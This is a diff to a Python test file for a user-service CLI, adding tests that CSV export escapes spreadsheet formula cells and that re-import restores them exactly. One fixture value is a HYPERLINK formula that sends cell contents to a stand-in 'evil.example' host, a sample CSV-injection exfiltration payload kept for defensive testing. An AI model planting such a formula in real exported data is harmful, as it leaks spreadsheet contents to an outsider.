@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import csv
+import io
 import json
 import os
 import sys
@@ -11,9 +12,13 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from support import bearer, make_settings, running_app
 
+from user.v1 import user_pb2
 from userservice.server import Application
+from userservice.user_files import UserWriter, neutralise_cell, read_users, restore_cell
 
 ROWS = 3000
 ROLES = ("USER_ROLE_VIEWER", "USER_ROLE_EDITOR", "USER_ROLE_ADMIN")
@@ -203,3 +208,75 @@ async def test_watch_prints_one_event_per_line(app: Application) -> None:
         await process.wait()
     assert [event["user"]["email"] for event in events] == ["w0@example.com", "w1@example.com"]
     assert all(event["type"] == "USER_EVENT_TYPE_CREATED" for event in events)
+
+
+# Values a spreadsheet would run as formulas, and quotes that must survive the escape.
+FORMULA_NAMES = (
+    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
+    "+1 555 0100",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "'quoted from the start",
+    "''two quotes",
+    "'=a quote before a formula",
+    "plain name",
+)
+FORMULA_EMAILS = ("=eq@example.com", "+plus@example.com", "-dash@example.com", "'q@example.com")
+
+
+@pytest.mark.asyncio
+async def test_export_neutralises_formula_cells_and_import_restores_them_exactly(
+    sqlite_url: str, tmp_path: Path
+) -> None:
+    originals = [(f"f{index}@example.com", name) for index, name in enumerate(FORMULA_NAMES)] + [
+        (email, "Formula Email") for email in FORMULA_EMAILS
+    ]
+    jsonl = "".join(
+        json.dumps({"email": email, "displayName": name}) + "\n" for email, name in originals
+    )
+    exported = tmp_path / "formulas.csv"
+    async with running_app(make_settings(sqlite_url)) as app:
+        code, _, err = await users_cli(
+            app.port, "import", "-", "--format", "jsonl", stdin=jsonl.encode()
+        )
+        assert code == 0, err
+        code, _, err = await users_cli(app.port, "export", str(exported))
+        assert code == 0, err
+    with exported.open(newline="", encoding="utf-8") as stream:
+        rows = list(csv.DictReader(stream))
+    assert len(rows) == len(originals)
+    cells = [cell for row in rows for cell in row.values()]
+    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    written = {(row["email"], row["display_name"]) for row in rows}
+    assert ("f0@example.com", "'" + FORMULA_NAMES[0]) in written
+    assert ("f4@example.com", "''quoted from the start") in written
+    assert ("f7@example.com", "plain name") in written
+    assert ("'=eq@example.com", "Formula Email") in written
+    # The export imports again, into a fresh server, as exactly what was exported.
+    async with running_app(make_settings(f"sqlite:///{tmp_path / 'again.db'}")) as again:
+        code, out, err = await users_cli(again.port, "import", str(exported))
+        assert code == 0, err
+        assert lines(out)[0]["createdCount"] == str(len(originals))
+        _, listed, _ = await users_cli(again.port, "list", "--page-size", "100")
+    assert sorted((user["email"], user["displayName"]) for user in lines(listed)) == sorted(
+        originals
+    )
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text())
+def test_a_neutralised_cell_never_starts_a_formula_and_restores_exactly(value: str) -> None:
+    cell = neutralise_cell(value)
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert restore_cell(cell) == value
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.text(alphabet=st.characters(exclude_categories=("Cs",))), max_size=5))
+def test_names_survive_a_csv_export_and_import_exactly(names: list[str]) -> None:
+    stream = io.StringIO(newline="")
+    writer = UserWriter(stream, "csv")
+    for name in names:
+        writer.write(user_pb2.User(email="x@example.com", display_name=name))
+    stream.seek(0)
+    assert [user.display_name for user in read_users(stream, "csv")] == names
